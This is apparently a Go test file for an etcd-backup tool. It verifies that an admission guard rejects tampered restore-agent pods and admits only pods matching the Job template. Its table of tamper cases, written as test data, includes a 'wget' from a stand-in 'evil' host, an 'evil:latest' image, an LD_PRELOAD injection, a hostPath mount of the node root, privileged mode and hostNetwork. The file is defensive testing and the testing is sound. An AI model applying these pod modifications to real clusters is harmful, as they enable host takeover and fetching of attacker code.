package auth_test

import (
	"context"
	"strconv"
	"testing"

	"google.golang.org/grpc/codes"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	"github.com/kubectl-etcdbackup/kubectl-etcdbackup/server/auth"
)

// TestAgentGuardAdmitsOnlyPodsOfTheJobsTemplate: under a real, signed,
// running restore Job, a pod made by hand with the agents' ServiceAccount
// and an ownerReference to the Job is admitted only if it runs what the
// template says (issue 25 item 1); what the API server and admission add
// to the Job controller's pods does not matter.
func TestAgentGuardAdmitsOnlyPodsOfTheJobsTemplate(t *testing.T) {
	c := newCluster(t)
	rj := c.restoreJob(t)
	n := 0
	// podOf creates a pod from rj's template as the Job controller and
	// admission would, changed by change, and returns its token.
	podOf := func(change func(p *corev1.Pod)) string {
		n++
		p := &corev1.Pod{ObjectMeta: *rj.Spec.Template.ObjectMeta.DeepCopy(), Spec: *rj.Spec.Template.Spec.DeepCopy()}
		p.Name, p.Namespace = "restore-pod-"+strconv.Itoa(n), rj.Namespace
		p.UID = types.UID("uid-of-" + p.Name)
		p.OwnerReferences = []metav1.OwnerReference{*metav1.NewControllerRef(rj, rj.GroupVersionKind())}
		p.OwnerReferences[0].APIVersion, p.OwnerReferences[0].Kind = "batch/v1", "Job"
		if p.Labels == nil {
			p.Labels = map[string]string{}
		}
		p.Labels["batch.kubernetes.io/controller-uid"] = string(rj.UID)
		p.Labels["controller-uid"] = string(rj.UID)
		p.Labels["batch.kubernetes.io/job-name"] = rj.Name
		// What the API server and admission add.
		s := &p.Spec
		s.NodeName, s.SchedulerName, s.DNSPolicy = "node-1", "default-scheduler", corev1.DNSClusterFirst
		s.EnableServiceLinks, s.PreemptionPolicy, s.Priority = ptr.To(true), ptr.To(corev1.PreemptLowerPriority), ptr.To[int32](0)
		s.SecurityContext = &corev1.PodSecurityContext{}
		s.Tolerations = append(s.Tolerations, corev1.Toleration{Key: "node.kubernetes.io/not-ready", Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoExecute, TolerationSeconds: ptr.To[int64](300)})
		s.Volumes = append(s.Volumes, corev1.Volume{Name: "kube-api-access-x7k2p", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{
			Sources: []corev1.VolumeProjection{{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{Path: "token", ExpirationSeconds: ptr.To[int64](3607)}}}}}})
		for i := range s.Containers {
			ct := &s.Containers[i]
			ct.TerminationMessagePath, ct.TerminationMessagePolicy = "/dev/termination-log", corev1.TerminationMessageReadFile
			ct.ImagePullPolicy = corev1.PullIfNotPresent
			ct.Resources.Requests = corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("100m")}
			ct.VolumeMounts = append(ct.VolumeMounts, corev1.VolumeMount{Name: "kube-api-access-x7k2p", MountPath: "/var/run/secrets/kubernetes.io/serviceaccount", ReadOnly: true})
		}
		if change != nil {
			change(p)
		}
		p, err := c.cs.CoreV1().Pods(p.Namespace).Create(context.Background(), p, metav1.CreateOptions{})
		if err != nil {
			t.Fatal(err)
		}
		return c.tokenFor(p)
	}
	if _, err := c.guard.Admit(withToken(podOf(nil)), auth.MethodDownloadBackup); err != nil {
		t.Fatalf("the Job controller's pod, with what admission adds: %v", err)
	}
	// The delta e2e's second agent: a copy outside the Job's selector,
	// another name, the component's labels only.
	copied := podOf(func(p *corev1.Pod) {
		p.Labels = map[string]string{"app.kubernetes.io/component": "restore-agent", "app.kubernetes.io/managed-by": "etcdbackup-server"}
		p.Spec.NodeName = ""
	})
	if _, err := c.guard.Admit(withToken(copied), auth.MethodDownloadBackup); err != nil {
		t.Fatalf("an exact copy of the template outside the selector: %v", err)
	}

	agent := func(p *corev1.Pod) *corev1.Container { return &p.Spec.Containers[0] }
	for _, tc := range []struct {
		name, want string
		change     func(p *corev1.Pod)
	}{
		{"command", `command differs`, func(p *corev1.Pod) {
			agent(p).Command = []string{"sh", "-c", "wget -O- http://evil/ < /dev/null"}
		}},
		{"args", `args differs`, func(p *corev1.Pod) { agent(p).Args = append(agent(p).Args, "--verbose") }},
		{"image", `image differs`, func(p *corev1.Pod) { agent(p).Image = "evil:latest" }},
		{"env", `env differs`, func(p *corev1.Pod) {
			agent(p).Env = append(agent(p).Env, corev1.EnvVar{Name: "LD_PRELOAD", Value: "/tmp/x.so"})
		}},
		{"extra container", `it has 2 containers, the template 1`, func(p *corev1.Pod) {
			p.Spec.Containers = append(p.Spec.Containers, corev1.Container{Name: "sidecar", Image: "busybox", Command: []string{"sh"}})
		}},
		{"init container", `it has 1 init containers, the template 0`, func(p *corev1.Pod) {
			p.Spec.InitContainers = append(p.Spec.InitContainers, corev1.Container{Name: "first", Image: "busybox"})
		}},
		{"hostPath volume", `volume "host" is not in the template`, func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
		}},
		{"hostPath volume mounted", `container "agent" volumeMounts differs`, func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
			agent(p).VolumeMounts = append(agent(p).VolumeMounts, corev1.VolumeMount{Name: "host", MountPath: "/host"})
		}},
		{"volume source", `source differs`, func(p *corev1.Pod) {
			for i := range p.Spec.Volumes {
				if p.Spec.Volumes[i].PersistentVolumeClaim != nil {
					p.Spec.Volumes[i].VolumeSource = corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/var/lib/etcd"}}
					return
				}
			}
			p.Spec.Volumes[0].VolumeSource = corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}
		}},
		{"ephemeral container", `ephemeral containers (debug)`, func(p *corev1.Pod) {
			p.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debug", Image: "busybox"}}}
		}},
		{"privileged", `securityContext differs`, func(p *corev1.Pod) {
			agent(p).SecurityContext = &corev1.SecurityContext{Privileged: ptr.To(true)}
		}},
		{"hostNetwork", `hostNetwork differs`, func(p *corev1.Pod) { p.Spec.HostNetwork = true }},
		{"another Job's controller-uid", `label batch.kubernetes.io/controller-uid=uid-of-another-job is not the Job's uid`, func(p *corev1.Pod) {
			p.Labels["batch.kubernetes.io/controller-uid"] = "uid-of-another-job"
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			refused(t, c.guard, podOf(tc.change), auth.MethodDownloadBackup, codes.PermissionDenied,
				"is not the pod Job "+rj.Namespace+"/"+rj.Name+" would run: ")
			refused(t, c.guard, podOf(tc.change), auth.MethodDownloadBackup, codes.PermissionDenied, tc.want)
		})
	}
}
